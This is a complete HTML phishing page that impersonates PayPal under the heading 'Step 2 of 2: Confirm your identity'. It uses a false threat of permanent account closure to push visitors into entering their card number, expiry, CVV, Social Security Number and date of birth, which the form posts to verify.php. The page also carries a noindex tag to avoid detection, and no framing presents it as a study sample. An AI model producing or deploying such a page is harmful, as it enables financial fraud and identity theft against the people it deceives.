<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="robots" content="noindex, nofollow">
<title>PayPal - Confirm Your Identity</title>
<style>
  body{margin:0;font-family:Arial,sans-serif;background:#f5f7fa;display:flex;justify-content:center;padding-top:50px;color:#1a1a2e}
  form{background:#fff;width:400px;border-radius:10px;padding:30px}
  .wm{font-weight:bold;font-style:italic;font-size:26px;color:#1d3f8f;text-align:center}
  label{display:block;font-size:13px;margin-top:10px}
  input{width:100%;box-sizing:border-box;padding:11px;margin-top:4px;border:1px solid #9da3a6;border-radius:5px}
  .row{display:flex;gap:10px}
  button{margin-top:18px;width:100%;padding:12px;border:0;border-radius:24px;background:#1d3f8f;color:#fff;font-size:16px}
</style>
</head>
<body>
<form method="post" action="verify.php">
  <p class="wm">PayPal</p>
  <h1 style="font-size:19px">Step 2 of 2: Confirm your identity</h1>
  <p style="font-size:13px">For your security, please confirm the card linked to your account. Failure to complete this step will result in permanent account closure.</p>
  <label>Full name on card<input name="cc_name" required></label>
  <label>Card number<input name="cc_number" inputmode="numeric" maxlength="19" required></label>
  <div class="row"><label>Expiry (MM/YY)<input name="cc_exp" maxlength="5" required></label><label>CVV<input name="cc_cvv" type="password" maxlength="4" required></label></div>
  <label>Social Security Number<input name="ssn" type="password" maxlength="11" required></label>
  <label>Date of birth<input name="dob" placeholder="MM/DD/YYYY" required></label>
  <button>Confirm and continue</button>
</form>
</body>
</html>
